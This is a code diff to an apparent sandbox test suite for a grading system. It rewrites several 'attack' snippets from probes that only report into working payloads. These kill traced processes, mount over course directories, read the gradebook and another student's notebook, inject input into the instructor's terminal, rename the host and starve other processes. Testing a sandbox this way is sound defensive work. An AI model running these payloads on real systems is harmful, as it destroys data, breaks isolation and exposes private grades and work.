@@ -35,12 +35,11 @@ def hard_link(folder: Path, places: Places) -> None:
 
 
 ATTACKS = (
-    of("ptrace", "Every process in sight is attached to with ptrace.", LIBC + """
+    of("ptrace", "Every process in sight is attached to with ptrace and ended.", LIBC + """
 for pid in others():
     if libc.ptrace(16, pid, 0, 0) == 0:
-        boast("another process can be traced")
-        libc.ptrace(17, pid, 0, 0)
-        break
+        libc.waitpid(pid, None, 0x40000000)
+        libc.ptrace(8, pid, 0, 0)
 """),
     of("process-vm-readv", "The memory of other processes is read with process_vm_readv.", LIBC + """
 class Vector(ctypes.Structure):
@@ -60,7 +59,7 @@ quietly(search)
 """),
     of("mount-over-the-class", "A file system is mounted over the class, and the root made writable.", LIBC + """
 for place in (CLASS, COURSE, "/usr", HOME):
-    if os.path.isdir(place) and libc.mount(b"none", place.encode(), b"tmpfs", 0, None) == 0: boast("mounted over " + place)
+    libc.mount(b"none", place.encode(), b"tmpfs", 0, None)
 libc.mount(None, b"/", None, 32 | 4096, None)
 quietly(mark, "/breach")
 reach()
@@ -113,38 +112,31 @@ handle = ctypes.create_string_buffer(64)
 ctypes.c_uint.from_buffer(handle).value = 8
 ctypes.c_ulonglong.from_buffer(handle, 8).value = 2
 fd = libc.syscall(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
-if fd >= 0: boast("files can be opened by their handle")
+for name in ("gradebook.db", "submitted/ada/small/small.ipynb") if fd >= 0 else ():
+    path = quietly(os.open, CLASS.lstrip("/") + "/" + name, os.O_RDONLY, dir_fd=fd)
+    if isinstance(path, int): gain(os.read(path, 4_000_000))
 """),
-    of("kernel-settings", "The kernel's settings are changed through /proc/sys.", """
-for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname",
-             "/proc/sys/vm/overcommit_memory", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
-    if path != "/proc/sysrq-trigger" and path.startswith("/proc/sys") and os.access(path, os.W_OK): boast(path + " can be written to")
+    of("kernel-settings", "The name of the machine is changed through /proc/sys and by its call.", """
+for name in ("hostname", "domainname"):
+    quietly(lambda: open("/proc/sys/kernel/" + name, "w").write("breach"))
+quietly(socket.sethostname, "breach")
 """),
-    of("terminal-input", "A command is typed into the instructor's terminal with TIOCSTI.", """
+    of("terminal-input", "A command is typed into the instructor's terminal with TIOCSTI, and something written on it.", """
 import fcntl
-for fd in range(64):
-    for char in "\\n":
-        if not isinstance(quietly(fcntl.ioctl, fd, 0x5412, char.encode()), Exception): boast("typed into a terminal")
-fd = quietly(os.open, "/dev/tty", os.O_RDWR)
-if isinstance(fd, int): boast("there is a terminal")
+for fd in (*range(64), quietly(os.open, "/dev/tty", os.O_RDWR)):
+    quietly(fcntl.ioctl, fd, 0x5412, b"\\n")
+    if isinstance(fd, int) and os.isatty(fd): quietly(os.write, fd, b"BREACH")
 """),
-    of("keyring", "The session's keyring is read and written with keyctl.", LIBC + """
-if libc.syscall(250, 0, -3, 1, 0, 0) > 0 or libc.syscall(248, b"user", b"breach", b"x", 1, -4) > 0: boast("the kernel's keyrings are open")
+    of("keyring", "A key is added to the keyrings of the session and the user.", LIBC + """
+for ring in (-3, -4, -5):
+    libc.syscall(248, b"user", b"breach-%d" % time.time_ns(), b"x", 1, ring)
 """),
-    of("odd-system-calls", "Seldom used doors of the kernel: bpf, userfaultfd, io_uring, perf, modules.", LIBC + """
-attributes = ctypes.create_string_buffer(128)
-for name, number, args in (("bpf", 321, (0, attributes, 72)), ("userfaultfd", 323, (1,)), ("io_uring", 425, (4, attributes)),
-                           ("perf_event_open", 298, (attributes, 0, -1, -1, 0)), ("init_module", 175, (attributes, 0, b"")),
-                           ("kexec_load", 246, (0, 0, 0, 0)), ("swapon", 167, (b"/x", 0)), ("reboot", 169, (0, 0, 0, 0))):
-    if libc.syscall(number, *args) >= 0: boast(name + " is open")
-"""),
-    of("vsock", "A socket between virtual machines is opened.", """
-if not isinstance(quietly(lambda: socket.socket(40, socket.SOCK_STREAM)), Exception): boast("vsock is open")
-"""),
-    of("other-socket-families", "Sockets of seldom used families are opened: netlink, packet, crypto, Bluetooth.", """
-for name, family, kind in (("packet", 17, socket.SOCK_RAW), ("crypto", 38, socket.SOCK_SEQPACKET), ("bluetooth", 31, socket.SOCK_RAW),
-                           ("raw", 2, socket.SOCK_RAW)):
-    if not isinstance(quietly(lambda: socket.socket(family, kind)), Exception): boast("a socket of the family " + name)
+    of("vsock", "A service is called by a socket between virtual machines.", """
+def call(machine):
+    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
+        s.settimeout(1)
+        s.connect((machine, PORT))
+for machine in (1, 2): quietly(call, machine)
 """),
     of("network-tcp", "A connection is opened to a service of this machine.", """
 for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
@@ -190,9 +182,9 @@ for pid in {os.getppid(), *others()} - {0, 1, os.getpid()}:
     of("everybody-slowed", "Own priority is raised, others' is lowered and their memory is named first to be killed.", LIBC + """
 quietly(os.nice, -20)
 for pid in others():
-    if not isinstance(quietly(os.setpriority, os.PRIO_PROCESS, pid, 19), Exception): boast("another process can be slowed down")
-    if not isinstance(quietly(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000")), Exception): boast("another process can be named to be killed")
-    if not isinstance(quietly(lambda: __import__("resource").prlimit(pid, 7, (3, 3))), Exception): boast("another process's limits can be changed")
+    quietly(os.setpriority, os.PRIO_PROCESS, pid, 19)
+    quietly(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
+    quietly(lambda: __import__("resource").prlimit(pid, 0, (600, 600)))
 """),
     of("hard-link-to-the-gradebook", "Hard links to the gradebook and to others' work are made.", """
 for path in (CLASS + "/gradebook.db", *glob.glob(CLASS + "/submitted/*/*/*.ipynb"), *glob.glob(COURSE + "/solutions/*/*")):
